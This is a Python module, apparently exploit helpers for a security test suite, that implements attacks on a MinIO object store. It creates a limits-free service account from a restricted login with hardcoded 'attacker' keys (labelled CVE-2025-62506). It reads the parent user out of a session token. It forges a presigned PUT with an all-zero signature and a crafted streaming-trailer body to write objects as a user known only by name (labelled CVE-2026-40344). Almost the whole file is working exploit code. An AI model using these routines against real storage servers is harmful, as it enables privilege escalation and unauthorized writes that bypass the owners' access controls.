"""What is done with a login to MinIO by somebody who wants more than it is for."""

from __future__ import annotations

import base64
import json
import urllib.error
import urllib.request
import zlib
from dataclasses import replace
from datetime import UTC, datetime
from urllib.parse import urlencode, urlsplit

from minio import MinioAdmin
from minio.credentials.providers import AssumeRoleProvider, StaticProvider

from gomr_runtime.storage.s3.presign import path_of
from gomr_runtime.storage.s3.settings import S3Settings

KEY, SECRET = "attacker00001", "attackersecret1"


def administrator(login: S3Settings) -> MinioAdmin:
    """The calls of an administrator, whether the login is one's or not."""
    keys = login.access_key, login.secret_key, login.session_token or None
    return MinioAdmin(
        endpoint=urlsplit(login.endpoint).netloc,
        credentials=StaticProvider(*keys),
        secure=False,
    )


def make_keys(login: S3Settings) -> S3Settings:
    """Keys of the login's own account without any limits (CVE-2025-62506)."""
    administrator(login).add_service_account(access_key=KEY, secret_key=SECRET)
    return replace(login, access_key=KEY, secret_key=SECRET, session_token="")


def owner_of(login: S3Settings) -> str:
    """Who gave these temporary keys, as they say themselves."""
    claims = login.session_token.split(".")[1]
    return str(json.loads(base64.urlsafe_b64decode(claims + "=="))["parent"])


def put_without_a_password(
    login: S3Settings, user: str, bucket: str, key: str, headers: dict[str, str] | None = None
) -> int:
    """Write an object as the user, of whom no more than the name is known (CVE-2026-40344); the
    status of the answer."""
    now = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
    fields = {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": f"{user}/{now[:8]}/{login.region}/s3/aws4_request",
        "X-Amz-Date": now,
        "X-Amz-Expires": "600",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": "0" * 64,
    }
    checksum = base64.b64encode(zlib.crc32(b"wrong").to_bytes(4, "big"))
    body = b"5\r\nwrong\r\n0\r\nx-amz-checksum-crc32:" + checksum + b"\r\n\r\n"
    request = urllib.request.Request(
        f"{login.endpoint}{path_of(login, bucket, key)}?{urlencode(fields)}",
        body,
        {
            "x-amz-content-sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
            "x-amz-decoded-content-length": "5",
            "x-amz-trailer": "x-amz-checksum-crc32",
            **(headers or {}),
        },
        method="PUT",
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


def keys_for(login: S3Settings, policy: str) -> S3Settings:
    """Temporary keys of the login itself."""
    found = AssumeRoleProvider(
        sts_endpoint=login.endpoint,
        access_key=login.access_key,
        secret_key=login.secret_key,
        region=login.region,
        policy=policy,
    ).retrieve()
    token = found.session_token or ""
    return replace(
        login, access_key=found.access_key, secret_key=found.secret_key, session_token=token
    )
